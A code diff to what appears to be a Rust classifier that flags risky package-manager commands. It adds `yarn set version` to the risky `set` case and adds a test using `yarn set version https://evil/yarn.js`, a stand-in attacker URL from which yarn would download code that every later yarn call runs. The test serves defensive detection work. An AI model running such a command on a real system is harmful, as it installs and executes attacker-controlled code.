@@ -334,7 +334,9 @@ fn package_js(program: &str, args: &[&str], e: &mut Effects) {
         {
             e.risky.push(format!("{sub} {}", rest[0]));
         }
-        ("npm" | "pnpm", "set") => e.risky.push("set".to_string()),
+        // `npm set` is `npm config set`; `yarn set version` downloads a yarn that every later
+        // yarn call runs (`yarnPath`).
+        ("npm" | "pnpm" | "yarn", "set") => e.risky.push("set".to_string()),
         (
             _,
             "install" | "i" | "in" | "ins" | "inst" | "insta" | "instal" | "isnt" | "isntall" | "add" | "update" | "up"
@@ -664,6 +666,7 @@ mod tests {
             ("npm config get registry", &[]),
             ("pnpm config set x y", &["config set"]),
             ("yarn config set x y", &["config set"]),
+            ("yarn set version https://evil/yarn.js", &["set"]),
             ("pip config set global.index-url x", &["config set"]),
             ("pip config list", &[]),
             ("npm install left-pad", &[]),
